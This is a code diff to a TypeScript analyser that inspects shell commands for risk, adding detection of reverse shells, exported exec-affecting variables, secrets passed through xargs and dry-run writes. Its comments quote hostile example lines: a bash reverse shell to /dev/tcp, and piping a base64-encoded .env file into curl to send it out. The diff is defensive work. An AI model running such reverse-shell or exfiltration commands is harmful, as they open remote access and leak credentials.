@@ -140,7 +140,8 @@ class Analysis extends BranchAnalysis {
       const out: Arg[] = [];
       resolveWord(a.value, ctx.env, a.value.substitutions.length > 0 ? this.resolver(ctx) : null, out);
       const value = out.length === 1 ? out[0]! : { value: a.value.value, static: false, splittable: false, word: a.value };
-      this.checkEnvVariable(a.name, value, ctx);
+      // A plain assignment only reaches programs once exported (or under `set -a`); a prefix one does at once.
+      this.checkEnvVariable(a.name, value, ctx, cmd.argv.length > 0 || this.allExport);
       if (cmd.argv.length === 0) this.assign(ctx, a, value);
     }
     if (cmd.argv.length === 0) {
@@ -154,6 +155,11 @@ class Analysis extends BranchAnalysis {
     if (cmd.assignments.length > 0) site.prefixEnv = new Map(cmd.assignments.filter((a) => a.value.static).map((a) => [a.name, a.value.value]));
     const args = this.resolveArgs(cmd.argv, ctx);
     const prefix = this.evalArgs(args, ctx, site);
+    // `bash -i >& /dev/tcp/host/4444 0>&1`: a shell wired to a network connection (a reverse shell).
+    const program = args[0]?.static ? basename(args[0].value) : "";
+    if ((SHELLS.has(program) || interpreterName(program)) && cmd.redirects.some((r) => /^\/dev\/(?:tcp|udp)\//.test(r.target.value))) {
+      this.finding("network-to-interpreter", collapse(cmd.text), ctx, `${program} reads and writes a network connection`);
+    }
     if (!writes) return;
     this.redirectWrites(cmd.redirects, prefix ?? (args[0] ? plainPrefix(args[0].value, args.slice(1)) : collapse(cmd.text)), ctx, local);
     this.noteRedirectContent(cmd, ctx, pipeInput);
@@ -171,12 +177,14 @@ class Analysis extends BranchAnalysis {
   }
 
 
-  protected override checkEnvVariable(name: string, value: Arg, ctx: Ctx): void {
+  protected override checkEnvVariable(name: string, value: Arg, ctx: Ctx, exported: boolean): void {
     if (HISTORY_OFF[name]?.test(value.value)) this.finding("history-disable", `${name}=${quoteForPrefix(value.value, value.static)}`, ctx);
     const spec = EXEC_ENV_VARIABLES[name];
     if (!spec) return;
     const prefix = `${name}=${quoteForPrefix(value.value, value.static)}`;
-    if (spec.flag) this.finding("exec-env", prefix, ctx);
+    if (spec.flag) {
+      if (exported) this.finding("exec-env", prefix, ctx);
+    }
     else if (value.static && value.value.trim() !== "") this.walkSource(spec.strip ? value.value.replace(spec.strip, "") : value.value, this.child(ctx, `${name}=`));
   }
 
@@ -266,7 +274,7 @@ class Analysis extends BranchAnalysis {
       const unwrapped = unwrapOnce(key, args);
       for (const a of unwrapped.assignments) {
         const m = ASSIGNMENT.exec(a.value);
-        if (m) this.checkEnvVariable(m[1]!, { ...a, value: m[2]! }, here);
+        if (m) this.checkEnvVariable(m[1]!, { ...a, value: m[2]! }, here, true);
       }
       chain = [...chain, unwrapped.label];
       privileged = privileged || unwrapped.privileged;
@@ -277,7 +285,8 @@ class Analysis extends BranchAnalysis {
         return undefined;
       }
       if (unwrapped.kind === "script") {
-        // runScriptArg adds the label to the chain itself; `eval` runs in this very shell.
+        // runScriptArg adds the label to the chain itself; `eval` runs in this very shell (so it shares the variables).
+        if (unwrapped.label === "eval") ctx.env ??= new Map();
         const scriptCtx: Ctx = { ...ctx, chain: chain.slice(0, -1), privileged };
         this.runScriptArg(unwrapped.script, scriptCtx, unwrapped.label, site.text, { sameShell: unwrapped.label === "eval", input: stdin });
         if (unwrapped.label === "eval") ctx.cwd = scriptCtx.cwd;
@@ -299,6 +308,13 @@ class Analysis extends BranchAnalysis {
   /** `xargs CMD`: the input is appended (or put in place of `-I` text); unknown input is one dynamic operand. */
   protected xargsVariants(args: Arg[], replace: string | null, stdin: (() => Stream | null) | null): Arg[][] {
     const s = stdin?.() ?? null;
+    const variants = this.xargsArguments(args, replace, s);
+    // What xargs puts in carries the input's secrets (`base64 .env | xargs -I{} curl "…?d={}"`).
+    if (!s?.secret) return variants;
+    return variants.map((v) => v.map((a, i) => (i >= args.length || a !== args[i] ? { ...a, secret: true } : a)));
+  }
+
+  private xargsArguments(args: Arg[], replace: string | null, s: Stream | null): Arg[][] {
     let items = s?.text != null ? s.text.split(/[\s\0]+/).filter(Boolean).slice(0, 64) : null;
     // Names from a glob (`printf '%s\0' *.bak | xargs rm`) are only known when it runs.
     if (items?.some((item) => /[*?[]/.test(item))) items = null;
@@ -356,7 +372,8 @@ class Analysis extends BranchAnalysis {
     const local: LocalMatches = [];
     if (matchers && !isInert(parsed)) for (const m of matchers) if (matchCommand(m, parsed, ctx.cwd)) local.push({ rule: m.rule, prefix: getPrefix(), detail: this.detail(ctx) });
     if (name === "curl" || name === "wget" || name === "aria2c") this.noteDownloads(name, parsed, ctx);
-    if (writer) for (const t of this.writerTargets(name, parsed)) this.writeTarget(t, getPrefix(), ctx, local);
+    // A dry run writes nothing either (`rsync -n --delete a/ /var/www/`).
+    if (writer && !isInert(parsed)) for (const t of this.writerTargets(name, parsed)) this.writeTarget(t, getPrefix(), ctx, local);
     if (sql) this.sqlClient(name, parsed, ctx, site, getPrefix());
     if (embedded) this.embedded(name, parsed, embedded, ctx, site);
     if (textTool) this.textTool(name, parsed, ctx, local, getPrefix());
